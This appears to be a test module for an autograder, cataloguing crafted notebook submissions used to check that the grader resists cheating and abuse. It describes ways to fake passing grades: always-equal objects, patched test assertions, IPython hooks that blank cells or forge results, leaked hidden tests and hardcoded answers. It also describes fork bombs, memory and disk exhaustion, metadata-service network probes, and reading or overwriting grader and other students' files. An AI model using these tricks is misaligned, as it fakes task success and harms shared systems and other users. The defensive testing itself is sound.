    "corrupt_json": Attack(
        "the submitted file is truncated JSON", raw=b'{"cells": [{"cell_type": "code", "source": "pa'),
    "not_a_notebook": Attack(
        "valid JSON that is not a notebook",
        raw=json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": "all passed"}).encode()),
    # ---- objects that compare equal to anything
    "always_equal_int": Attack(
        "int subclass equal to anything", overrides=_first_cell(CH02_ATTACKS["always_equal"]),
        flags=("comparison override",)),
    "always_equal_ndarray": Attack(
        "ndarray subclass equal to anything", overrides=_first_cell(_ALWAYS_EQUAL_NDARRAY),
        flags=("comparison override",)),
    "always_equal_object": Attack(
        "object with __eq__ always true, dressed up as a numpy value",
        overrides=_first_cell(_ALWAYS_EQUAL_OBJECT), flags=("comparison override",)),
    # ---- monkeypatching
    "patch_numpy_testing": Attack(
        "numpy.testing, numpy comparisons and unittest assertions patched to pass",
        overrides=_first_cell(_PATCH_NUMPY), flags=("module attribute patched",)),
    "patch_builtins": Attack(
        "builtins (exception classes), excepthook, showtraceback and set_custom_exc patched",
        overrides=_first_cell(_PATCH_BUILTINS), flags=("builtins patched",)),
    "patch_course_probe": Attack(
        "course.probe's recorder patched to record forged outputs",
        overrides=_first_cell(_PATCH_COURSE_PROBE), flags=("module attribute patched",)),
    # ---- IPython machinery
    "input_transformers_cleanup": Attack(
        "input_transformers_cleanup turns every later cell into `pass`",
        overrides=_first_cell(_INPUT_TRANSFORMER.replace("{which}", "cleanup")),
        flags=("IPython input transformer",)),
    "input_transformers_post": Attack(
        "input_transformers_post turns every later cell into `pass`",
        overrides=_first_cell(_INPUT_TRANSFORMER.replace("{which}", "post")),
        flags=("IPython input transformer",)),
    "ast_transformer": Attack(
        "an AST transformer compiles every later cell to `pass`",
        overrides=_first_cell(_AST_TRANSFORMER), flags=("IPython input transformer",)),
    "event_hook_clear_output": Attack(
        "post_run_cell hook wipes every cell's outputs (errors included) and prints success",
        overrides=_first_cell(_CLEAR_OUTPUT_HOOK), flags=("IPython event hook",)),
    "fake_probe_hooks": Attack(
        "pre/post_run_cell hooks publish forged probe records with the real hidden inputs "
        "(read from the test code) first, and again after wiping the real ones",
        overrides=_first_cell(_FAKE_PROBE_HOOKS), flags=("IPython event hook",)),
    "fake_probe_display_data": Attack(
        "functions publish display_data of the probe MIME type themselves, with the hidden "
        "inputs taken from the caller's frame and plausible outputs, before the real probe",
        overrides=_first_cell(_FAKE_PROBE_DISPLAY), flags=("probe imitation",)),
    "fake_probe_stdout_json": Attack(
        "functions print JSON that looks like probe records", overrides=_first_cell(_FAKE_PROBE_STDOUT),
        flags=("probe imitation",)),
    "settrace": Attack(
        "sys.settrace/threading.settrace tracer empties the hidden cases before each line",
        overrides=_first_cell(_SETTRACE), flags=("tracing or profiling hook",)),
    "atexit": Attack(
        "atexit and at-fork hooks forge the graded notebook and a feedback page at shutdown",
        overrides=_first_cell(_ATEXIT), flags=("exit hook or hard exit",)),
    "hidden_test_marker": Attack(
        "an answer cell holds an unclosed `### BEGIN HIDDEN TESTS` line",
        overrides=_first_cell(_HIDDEN_MARKER)),  # feedback: DisableRegionMarkers
    "extra_notebook": Attack(
        "writes another notebook next to the graded one (its working folder is autograded/STUDENT/...)",
        overrides=_first_cell(_EXTRA_NOTEBOOK)),
    # ---- bringing work in from outside the graded run (model-credit issue; any chapter)
    "answer_key_beside_notebook": Attack(
        "imports every answer from answer_key.py, submitted beside the notebook (withheld)",
        overrides=_first_cell("from answer_key import *\n"), files=_answer_key_beside,
        flags=("files submitted beside the notebook: answer_key.py",)),
    "pasted_answer_key": Attack(
        "runs every answer from a base64 blob pasted into the first answer cell (not run: too large)",
        overrides=_first_cell(_pasted_answer_key()), flags=("oversized cell", "decodes embedded data")),
    # ---- stopping or exhausting the kernel
    "os_exit": Attack("os._exit(0) in the first answer", overrides=_first_cell(_OS_EXIT),
                      flags=("exit hook or hard exit",)),
    "sys_exit": Attack("sys.exit(0) and SystemExit in the first answer",
                       overrides=_first_cell(_SYS_EXIT), flags=("exit hook or hard exit",)),
    "ipython_exit": Attack(
        "IPython's exit() in the first answer", overrides=_first_cell(_IPYTHON_EXIT),
        flags=("exit hook or hard exit",)),
    "sigint_proof_loop": Attack(
        "infinite loop that ignores SIGINT, SIGTERM and KeyboardInterrupt",
        overrides=_first_cell(_SIGINT_PROOF_LOOP), flags=("exit hook or hard exit",)),
    "memory_bomb": Attack(
        "allocates and touches memory until refused", overrides=_first_cell(_MEMORY_BOMB), evidence=True),
    "fork_bomb": Attack(
        f"first cell forks until refused and keeps the processes {FORK_BOMB_HOLD_S} s",
        edit=_prepend(_FORK_BOMB), flags=("fork",), evidence=True, batch="fork_bomb"),
    "disk_fill": Attack(
        "fills /tmp, then writes large files into its folder until stopped",
        overrides=_first_cell(_DISK_FILL), evidence=True),
    # ---- reaching out of the sandbox
    "network": Attack(
        "TCP, UDP, DNS and urllib to the internet, the cloud metadata service and the host",
        overrides=_first_cell(_NETWORK), flags=("network or subprocess",), evidence=True),
    "read_parent_dirs": Attack(
        "searches every parent folder for source/, .grading/, gradebook.db... and uses what it finds",
        overrides=_first_cell(_READ_PARENTS), flags=("grader files",), evidence=True),
    "read_absolute_paths": Attack(
        "reads the course's and the repository's grader files and another student's work by "
        "absolute path, and uses what it finds",
        overrides=_first_cell(_READ_ABSOLUTE), flags=("path outside the submission", "grader files"),
        evidence=True),
    "write_grader_and_other_students": Attack(
        "writes the gradebook, the source, the references and another student's files "
        "(../../control_solved/..., absolute paths)",
        overrides=_first_cell(_WRITE), flags=("path outside the submission", "grader files"),
        evidence=True),
    "symlink_to_grader_files": Attack(
        "symbolic links in the submission folder to ../../../source/..., the references and the "
        "gradebook; every answer cell runs the solutions found through them",
        overrides=dict.fromkeys(SOLUTION_IDS, _SYMLINK_READER), files=_symlinks,
        flags=("symbolic link",), evidence=True),
    # ---- answers without work, and leaks
    "hardcoded_visible_answers": Attack(
        "functions return the values of the visible asserts from a lookup table",
        overrides={"ex1_conv_output_size": _HARDCODED_FUNCS}),
    "hardcoded_visible_totals": Attack(
        "ex7's three totals copied from the visible asserts of exercises 4-6 (they answer the "
        "question; ex7 asks its follow-up)", overrides={"ex7_answers": _HARDCODED_TOTALS}),
    "leak_hidden_tests_history": Attack(
        "functions print In[-1] (the hidden test code) and the hidden cases when probed",
        overrides=_first_cell(_LEAK_HISTORY), flags=("reads the cell history",)),
    "leak_hidden_tests_hook": Attack(
        "pre_run_cell hook prints every cell's code (hidden tests included)",
        overrides=_first_cell(_LEAK_HOOK), flags=("IPython event hook", "reads the cell history")),
    "output_flood": Attack(
        "prints about 120 MB to stdout (1,000 lines)", overrides=_first_cell(_OUTPUT_FLOOD)),
}


BYSTANDER = "bystander_solved"
"""An honest, solved submission graded beside the fork bomb (both start together)."""


def student(name: str) -> str:
    """Student id of an attack's submission."""
    return f"attack_{name}"


def _fill(code: str, course: Path) -> str:
    return code.replace("@COURSE@", str(course)).replace("@ROOT@", str(ROOT)).replace("@A@", A)


def lean(nb) -> None:
    """Empty the narrative code cells, the setup cell included (students may edit them).

    They earn nothing and cost seconds per submission (TensorFlow's import, Keras
    models, a forward pass over 50 images); the blank control keeps them.
    """
    for cell in nb.cells:
        if cell.cell_type == "code" and "nbgrader" not in cell.metadata:
            cell.source = ""


def build(course: Path, name: str) -> Path:
    """Write the submission of attack ``name`` into ``course``; return the notebook path."""
    attack = ATTACKS[name]
    sid = student(name)
    if attack.raw is not None:
        path = make_submission(course, A, sid, solved=False)
        path.write_bytes(attack.raw)
    else:
        overrides = {k: _fill(v, course) for k, v in (attack.overrides or {}).items()}
        path = make_submission(course, A, sid, solved=False, overrides=overrides)
        nb = nbformat.read(path, as_version=4)
        lean(nb)
        if attack.edit is not None:
            attack.edit(nb)
        nbformat.write(nb, path)
    if attack.files is not None:
        attack.files(path.parent)
    return path
